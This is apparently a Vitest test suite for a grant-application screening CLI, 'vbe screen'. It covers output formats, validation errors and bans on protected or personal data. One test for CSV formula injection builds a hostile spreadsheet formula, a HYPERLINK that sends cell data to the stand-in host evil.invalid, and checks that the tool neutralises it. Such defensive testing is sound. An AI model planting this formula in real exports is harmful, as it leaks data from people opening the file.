import { describe, expect, it } from 'vitest'
import { parse as parseCsv } from 'csv-parse/sync'
import { csvCell } from '../src/commands/screen.js'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'

const here = dirname(fileURLToPath(import.meta.url))
const bin = resolve(here, '../dist/vbe.js')
const fixtures = resolve(here, 'fixtures/screen')
const fixture = (name: string) => join(fixtures, name)

/** Runs the built `vbe` binary as a real process. */
function vbe(...args: string[]) {
  if (!existsSync(bin)) throw new Error(`Build the CLI first (nx run @vbe/cli:build): ${bin} is missing`)
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } })
  return { code: r.status, out: r.stdout, err: r.stderr }
}

const on = ['--on', '2026-11-22']

interface JsonOutput {
  ruleset: { version: string; on: string }
  rules: Array<{ id: string; sources: unknown[] }>
  results: Array<{
    record: number
    where: string
    applicationId?: string
    outcome: string
    humanDecisionRequired?: boolean
    findings?: Array<{ ruleId: string; status: string; evidenceIds: string[] }>
    problems?: Array<{ path: string; message: string }>
  }>
}

describe('vbe screen', () => {
  it('screens one JSON application and prints a table with the outcome and who must decide', () => {
    const { code, out, err } = vbe('screen', fixture('one.json'), ...on, '--lang', 'en')
    expect(err).toBe('')
    expect(code).toBe(0)
    expect(out).toMatch(/^Record +Id +Outcome +Person +Not met \/ needs assessment$/m)
    expect(out).toMatch(/^record 1 +app-2026-0042 +ineligible +yes +democracy-condition:e1$/m)
    expect(out).toContain('1 records: 0 eligible, 1 ineligible, 0 requiring assessment, 0 invalid. 1 need a person')
    expect(out).toContain('An officer makes every decision.')
  })

  it('screens a JSON list and writes JSON with the rules once and every finding', () => {
    const { code, out, err } = vbe('screen', fixture('list.json'), ...on, '--format', 'json')
    expect(err).toBe('')
    expect(code).toBe(0)
    const data = JSON.parse(out) as JsonOutput
    expect(data.ruleset).toEqual({ version: expect.stringMatching(/^1\+[0-9a-f]{8}$/), on: '2026-11-22' })
    expect(data.rules.find((r) => r.id === 'democracy-condition')?.sources).toHaveLength(3)
    expect(data.results.map((r) => [r.record, r.applicationId, r.outcome, r.humanDecisionRequired])).toEqual([
      [1, 'a1', 'eligible', false],
      [2, 'a2', 'ineligible', false],
      [3, 'a3', 'requires_assessment', true],
    ])
    expect(data.results[1]?.findings?.find((f) => f.ruleId === 'max-amount')?.status).toBe('not_met')
    expect(data.results[2]?.findings?.find((f) => f.ruleId === 'democracy-condition')).toMatchObject({
      status: 'needs_assessment',
      evidenceIds: ['t1'],
    })
  })

  it('reports each bad NDJSON line with its line number, field and problem, and screens the rest (exit 1)', () => {
    const { code, out, err } = vbe('screen', fixture('mixed.ndjson'), ...on, '--format', 'json')
    expect(code).toBe(1)
    const file = fixture('mixed.ndjson')
    expect(err.trim().split('\n')).toEqual([
      `${file}: line 4: (root): is not valid JSON (Expected double-quoted property name in JSON at position 17)`,
      `${file}: line 5 (id a4): association.organisationNumber: the check digit is wrong (the last digit should be 5)`,
      `${file}: line 7 (id a5): religion: screening may not consider religion, ethnicity, political opinion, nationality or similar personal characteristics; remove this field`,
      `${file}: line 8 (id a6): programme: Unknown grant programme "kungsholmen/foreningsbidrag". Known programmes: rinkeby-kista/foreningsbidrag`,
    ])
    const data = JSON.parse(out) as JsonOutput
    expect(data.results.map((r) => [r.where, r.outcome])).toEqual([
      ['line 1', 'eligible'],
      ['line 2', 'ineligible'],
      ['line 4', 'invalid'],
      ['line 5', 'invalid'],
      ['line 6', 'requires_assessment'],
      ['line 7', 'invalid'],
      ['line 8', 'invalid'],
    ])
    expect(data.results[3]).toMatchObject({
      applicationId: 'a4',
      problems: [{ path: 'association.organisationNumber', message: expect.stringContaining('check digit') }],
    })
  })

  it('reads CSV with dotted and JSON columns, reports the bad row with row and line, and writes CSV (exit 1)', () => {
    const { code, out, err } = vbe('screen', fixture('applications.csv'), ...on, '--format', 'csv', '--lang', 'en')
    expect(code).toBe(1)
    expect(err).toBe(
      `${fixture('applications.csv')}: row 3 (line 4) (id a4): association.organisationNumber: the check digit is wrong (the last digit should be 5)\n`,
    )
    const lines = out.trim().split('\n')
    expect(lines[0]).toBe('record,where,id,programme,outcome,humanDecisionRequired,notMet,needsAssessment,reasons,problems')
    expect(lines.slice(1).map((l) => l.split(',').slice(0, 5).join(','))).toEqual([
      '1,row 1 (line 2),a1,rinkeby-kista/foreningsbidrag,eligible',
      '2,row 2 (line 3),a2,rinkeby-kista/foreningsbidrag,ineligible',
      '3,row 3 (line 4),a4,,invalid',
      '4,row 4 (line 5),a3,rinkeby-kista/foreningsbidrag,requires_assessment',
      '5,row 5 (line 6),a7,rinkeby-kista/foreningsbidrag,ineligible',
    ])
    expect(lines[2]).toContain('max-amount,,"The amount requested, 100,001 kronor, is above the programme maximum of 100,000 kronor.",')
    expect(lines[3]).toMatch(/,invalid,,,,,association\.organisationNumber: the check digit is wrong/)
    expect(lines[5]).toContain(',statutes,,The application gives no statutes.,')
  })

  it('rejects a CSV whose header has a column screening may not consider, without screening', () => {
    const { code, out, err } = vbe('screen', fixture('forbidden-column.csv'), ...on, '--format', 'csv')
    expect(code).toBe(1)
    expect(err).toContain('forbidden-column.csv: header (line 1): ethnicity: screening may not consider')
    expect(out.trim().split('\n')).toHaveLength(2)
  })

  it('rejects the contact person columns of the grant-screening app: screening takes in no personal data', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vbe-screen-'))
    const file = join(dir, 'contact.csv')
    const [header, row] = readFileSync(fixture('forbidden-column.csv'), 'utf8').trim().split('\n')
    writeFileSync(file, `${header!.replace(/,ethnicity$/, ',contact.name')}\n${row!.replace(/,x$/, ',Amina Berg')}\n`)
    const { code, out, err } = vbe('screen', file, ...on, '--format', 'csv')
    expect(code).toBe(1)
    expect(err).toBe(`${file}: header (line 1): contact.name: person columns are not read here; remove this column\n`)
    expect(out.trim().split('\n')).toHaveLength(2)
  })

  it('writes no live spreadsheet formula: cells starting with = + - @ TAB or CR get a leading quote (issue 16, finding 14)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vbe-screen-'))
    const file = join(dir, 'formulas.ndjson')
    const app = JSON.parse(readFileSync(fixture('one.json'), 'utf8')) as Record<string, unknown>
    const ids = ['=HYPERLINK("http://evil.invalid/?"&A1,"klicka")', '+SUM(1,2)', '-2+3', '@SUM(1)', 'plain-id']
    writeFileSync(file, ids.map((id) => JSON.stringify({ ...app, id })).join('\n') + '\n')
    const { code, out } = vbe('screen', file, ...on, '--format', 'csv')
    expect(code).toBe(0)
    const rows = parseCsv(out, { columns: true }) as Array<{ id: string }>
    expect(rows.map((r) => r.id)).toEqual([
      `'=HYPERLINK("http://evil.invalid/?"&A1,"klicka")`,
      "'+SUM(1,2)",
      "'-2+3",
      "'@SUM(1)",
      'plain-id',
    ])
    // Ids are trimmed when read, so TAB and CR first reach a cell only through other text.
    expect(['\tx', '\rx=1', 'a=b', '-'].map(csvCell)).toEqual(["'\tx", `"'\rx=1"`, 'a=b', "'-"])
  })

  it('uses the screening date: a report due on the date is not yet overdue, the day after it is', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vbe-screen-'))
    const file = join(dir, 'due.ndjson')
    const app = JSON.parse(readFileSync(fixture('one.json'), 'utf8')) as Record<string, unknown>
    writeFileSync(
      file,
      `${JSON.stringify({ ...app, evidence: [], previousGrants: [{ year: 2025, amount: 1, reportDue: '2026-11-22' }] })}\n`,
    )
    expect(vbe('screen', file, '--on', '2026-11-22', '--lang', 'en').out).toMatch(/^line 1 +app-2026-0042 +eligible/m)
    expect(vbe('screen', file, '--on', '2026-11-23', '--lang', 'en').out).toMatch(/^line 1 +app-2026-0042 +ineligible +earlier-grants$/m)
  })

  it('restricts the programmes to the plugins given', () => {
    const { code, err } = vbe('screen', fixture('one.json'), ...on, '--plugin', 'norrmalm')
    expect(code).toBe(1)
    expect(err).toContain('programme: Unknown grant programme "rinkeby-kista/foreningsbidrag"')
    expect(vbe('screen', fixture('one.json'), ...on, '--plugin', 'rinkeby-kista').code).toBe(0)
  })

  it('reports progress and stats on stderr when asked, keeping stdout clean', () => {
    const { code, out, err } = vbe('screen', fixture('list.json'), ...on, '--format', 'json', '--progress', '--stats')
    expect(code).toBe(0)
    expect(() => JSON.parse(out)).not.toThrow()
    expect(err).toMatch(/^screened 3 records \(0 invalid\)$/m)
    expect(err).toMatch(/^stats: 3 records in [\d.]+ s \(\d+ records\/s\), peak RSS \d+ MB$/m)
  })

  it.each([
    [[fixture('missing.csv')], 'error: file not found:'],
    [[fixture('one.json'), '--on', '2026-02-30'], 'error: --on must be a real date written YYYY-MM-DD, got "2026-02-30"'],
    [[fixture('one.json'), '--plugin', 'kungsholmen'], 'error: unknown plugin "kungsholmen". Known plugins: norrmalm, rinkeby-kista'],
    [[fixture('one.json'), '--format', 'xml'], "argument 'xml' is invalid. Allowed choices are table, json, csv."],
    [[join(here, 'screen.test.ts')], 'error: cannot tell the format of'],
    [[], "error: missing required argument 'file'"],
  ])('vbe screen %j is a usage error (exit 2)', (args, message) => {
    const { code, out, err } = vbe('screen', ...args)
    expect(code).toBe(2)
    expect(err).toContain(message)
    expect(out).toBe('')
  })

  it('is listed in the help with its exit codes', () => {
    expect(vbe('--help').out).toMatch(/^ {2}screen \[options\] <file> +screen grant applications/m)
    const help = vbe('screen', '--help').out
    expect(help).toContain('Exit codes: 0 every record was valid, 1 some records were invalid, 2 usage error.')
    expect(help).toContain('--on <date>')
  })
})
